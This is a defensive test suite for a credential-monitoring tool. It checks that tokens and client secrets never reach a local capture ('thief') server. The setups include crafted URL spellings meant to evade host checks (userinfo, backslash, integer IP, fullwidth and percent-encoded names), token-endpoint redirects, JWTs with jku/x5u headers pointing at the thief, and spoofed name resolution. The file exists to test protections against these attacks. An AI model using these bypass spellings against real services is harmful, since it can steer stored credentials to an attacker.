// R26 for the sources that ask an issuer: whatever a user stores, and whoever tampers
// with an issuer or with names, no secret goes to a thief.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeCertificates } from '@credmon/test-fixtures/servers/certificates';
import {
  startMaliciousIssuer,
  type MaliciousIssuer,
} from '@credmon/test-fixtures/servers/malicious-issuer';
import { misleadNames } from '@credmon/test-fixtures/servers/misled-names';
import {
  startCaptureServer,
  type CaptureServer,
} from '@credmon/test-fixtures/servers/capture-server';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import { accessPoint, type AccessPoint } from '../support/access-point.ts';
import { AP, SOURCES, sourceKnobs, type SourceKind } from '../support/sources.ts';

let thief: CaptureServer;
let issuer: MaliciousIssuer;
let on: AccessPoint;
const endings: (() => unknown)[] = [];
beforeEach(async () => {
  thief = await startCaptureServer();
  issuer = await startMaliciousIssuer();
  on = accessPoint();
  endings.push(
    () => thief.close(),
    () => issuer.close(),
    () => on.close(),
  );
});
afterEach(async () => {
  for (const end of endings.splice(0).toReversed()) await end();
});

const REFRESH = 'CANARY-refresh-token';

/** Stores `.top`; answers with every secret that is at stake. */
function store(top: Readonly<Record<string, unknown>>): Record<string, string> {
  on.store('alice/svc.top', JSON.stringify(top));
  const texts = Object.entries(top).filter(
    (entry): entry is [string, string] => typeof entry[1] === 'string',
  );
  const tokens = texts.filter(([name]) => name.endsWith('_token') && name !== 'id_token');
  return { 'client secret': AP.clientSecret, ...Object.fromEntries(tokens) };
}

/** What an honest user stores. */
const honest = (kind: SourceKind, at: MaliciousIssuer = issuer): Record<string, unknown> => {
  if (kind === 'client') return {};
  return kind === 'oauth' ? { refresh_token: REFRESH } : { access_token: at.sign() };
};
const configure = (kind: SourceKind, byMetadata = false, at: MaliciousIssuer = issuer): void =>
  on.configure(sourceKnobs(kind, at, on.secret('svc', AP.clientSecret), byMetadata));
const posts = (): string[] =>
  on.sent.filter(({ method }) => method === 'POST').map(({ url }) => url);

/** Ways to spell the thief's address, some with the trusted one in them. */
const spellings = (): Record<string, string> => {
  const { host } = new URL(issuer.url);
  return {
    'its address': `${thief.url}/token`,
    'user information': `http://${host}@127.0.0.1:${thief.port}/token`,
    'user information with a password': `http://${host}:x@127.0.0.1:${thief.port}/token`,
    'a backslash': `http://127.0.0.1:${thief.port}\\@${host}/token`,
    'an integer for an address': `http://2130706433:${thief.port}/token`,
    'a trailing dot': `http://localhost.:${thief.port}/token`,
    'wide letters': `http://ｌocalhost:${thief.port}/token`,
    'percent signs': `http://%6cocalhost:${thief.port}/token`,
  };
};
const NAMES = [
  'its address',
  'user information',
  'user information with a password',
  'a backslash',
  'an integer for an address',
  'a trailing dot',
  'wide letters',
  'percent signs',
];

it('the capture server finds a secret in any encoding', async () => {
  const secrets = { a: 'CANARY a&b', b: 'CANARY-basic', c: 'never sent' };
  const authorization = `Basic ${Buffer.from(`ap:${secrets.b}`).toString('base64')}`;
  const form = new URLSearchParams({ x: secrets.a });
  const response = await fetch(`${thief.url}/token`, {
    method: 'POST',
    body: form,
    headers: { authorization },
  });
  expect(thief.carried(secrets)).toEqual(['a', 'b']);
  expect(await response.json()).toMatchObject({ access_token: 'stolen', issuer: thief.url });
});

describe.each(SOURCES)('R26 %s', (kind) => {
  it.each(NAMES)(
    'a .top whose URLs name the capture server by %s: only the issuer is asked',
    async (name) => {
      const url = spellings()[name];
      configure(kind);
      const keys = [
        'token_url',
        'token_endpoint',
        'vault_url',
        'url',
        'jwks_uri',
        'revocation_url',
        'issuer',
        'metadata',
      ];
      const steering = Object.fromEntries(keys.map((key) => [key, url]));
      const secrets = store({
        ...honest(kind),
        ...steering,
        client_id: 'thief',
        client_secret: 'x',
        use_refresh_token: true,
      });
      await on.pass();
      expect(thief.requests).toEqual([]);
      expect([posts(), on.has('alice/svc.use')]).toEqual([[issuer.tokenUrl], true]);
      expect(thief.carried(secrets)).toEqual([]);
    },
  );

  it('a .meta that names the capture server: the configuration is used', async () => {
    configure(kind);
    store(honest(kind));
    const meta = {
      client_id: 'ap',
      client_secret: 'theirs',
      token_url: `${thief.url}/token`,
      use_refresh_token: true,
    };
    on.store('alice/svc.meta', JSON.stringify(meta));
    await on.pass();
    expect([thief.requests, posts()]).toEqual([[], [issuer.tokenUrl]]);
  });

  it.each([false, true])(
    'a foreign iss, signed by the capture server (endpoint from metadata: %s): no secret is sent to it',
    async (byMetadata) => {
      const other = await startMaliciousIssuer();
      endings.push(() => other.close());
      configure(kind, byMetadata);
      const jwt = other.sign({}, { jku: `${thief.url}/jwks`, x5u: `${thief.url}/x` });
      const secrets = store({
        access_token: jwt,
        subject_token: jwt,
        refresh_token: REFRESH,
        iss: other.url,
      });
      await on.pass();
      expect([thief.requests, other.paths]).toEqual([[], []]);
      // To the true issuer goes what is meant for it: the foreign token never does.
      const sent =
        posts().length === 0 ? '' : String(on.sent.find(({ method }) => method === 'POST')?.body);
      expect(sent).not.toContain(encodeURIComponent(jwt));
      expect(posts().filter((url) => url !== issuer.tokenUrl)).toEqual([]);
      expect(thief.carried(secrets)).toEqual([]);
    },
  );

  it.each([301, 302, 303, 307, 308])(
    'a redirect (%d) of the token endpoint: not followed',
    async (status) => {
      issuer.become({ redirect: { path: '/token', status, to: `${thief.url}/token` } });
      configure(kind);
      const secrets = store(honest(kind));
      await on.pass();
      expect([thief.requests, posts(), on.has('alice/svc.use')]).toEqual([
        [],
        [issuer.tokenUrl],
        false,
      ]);
      expect(thief.carried(secrets)).toEqual([]);
    },
  );

  it.each(['/.well-known/openid-configuration', '/jwks'])(
    'a redirect of %s: not followed',
    async (path) => {
      issuer.become({ redirect: { path, status: 302, to: thief.url + path } });
      configure(kind, true);
      const secrets = store(honest(kind));
      await on.pass();
      expect([thief.requests, thief.carried(secrets)]).toEqual([[], []]);
    },
  );

  it('metadata with a token endpoint on another server: rejected, unless that server is configured', async () => {
    issuer.become({ metadata: { token_endpoint: `${thief.url}/token` } });
    configure(kind, true);
    const secrets = store(honest(kind));
    await on.pass();
    expect([thief.requests, thief.carried(secrets)]).toEqual([[], []]);
    // By a token URL of its own a source asks nobody where to go.
    expect([on.has('alice/svc.use'), on.lines.join().includes('is on another server')]).toEqual([
      kind === 'oauth',
      kind !== 'oauth',
    ]);
    on.configure({
      ...sourceKnobs(kind, issuer, on.secret('svc', AP.clientSecret), true),
      CREDMON_ENDPOINT_ORIGINS: thief.url,
    });
    await on.pass();
    expect(thief.carried(secrets).length > 0).toBe(kind !== 'oauth');
  });

  it('metadata with keys on another server: they are fetched, without any secret', async () => {
    issuer.become({ metadata: { jwks_uri: `${thief.url}/jwks` } });
    configure(kind, true);
    const secrets = store(honest(kind));
    await on.pass();
    expect(thief.requests.every(({ method, body }) => method === 'GET' && body === '')).toBe(true);
    expect(thief.carried(secrets)).toEqual([]);
  });

  it('metadata with another issuer: no secret is sent', async () => {
    issuer.become({ metadata: { issuer: thief.url } });
    configure(kind, true);
    const secrets = store(honest(kind));
    await on.pass();
    expect([thief.requests, posts().length, thief.carried(secrets)]).toEqual([
      [],
      kind === 'oauth' ? 1 : 0,
      [],
    ]);
  });
});

describe.each(SOURCES)('R26 %s, with a false name service', (kind) => {
  const folder = mkdtempSync(join(tmpdir(), 'credmon-thief-'));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));
  const made = makeCertificates(folder);
  const tls = {
    key: readFileSync(made.keyFile, 'utf8'),
    cert: readFileSync(made.certificateFile, 'utf8'),
  };

  it.each([
    // The authority is believed, but it never certified this name; with the right name
    // the same server is asked.
    ['issuer.example', 'no'],
    ['localhost', 'yes'],
  ])(
    'https://%s resolves to a server with a certificate for localhost: is the secret sent? %s',
    async (host, sent) => {
      const there = await startMaliciousIssuer({ host, tls });
      endings.push(() => there.close());
      await on.close();
      on = accessPoint({ ca: made.ca });
      endings.push(misleadNames('127.0.0.1'));
      for (const byMetadata of [false, true]) {
        configure(kind, byMetadata, there);
        store(honest(kind, there));
        await on.pass();
      }
      expect([there.paths.length > 0, on.has('alice/svc.use')]).toEqual([
        sent === 'yes',
        sent === 'yes',
      ]);
      expect(on.lines.join().includes('ERR_TLS_CERT_ALTNAME_INVALID')).toBe(sent === 'no');
    },
  );

  it('http://localhost resolves to another machine: no secret is sent there', async () => {
    const there = await startMaliciousIssuer({ host: 'localhost' });
    endings.push(() => there.close(), misleadNames('0.0.0.0'));
    for (const byMetadata of [false, true]) {
      configure(kind, byMetadata, there);
      store(honest(kind, there));
      await on.pass();
    }
    expect([there.paths, on.has('alice/svc.use')]).toEqual([[], false]);
  });
});
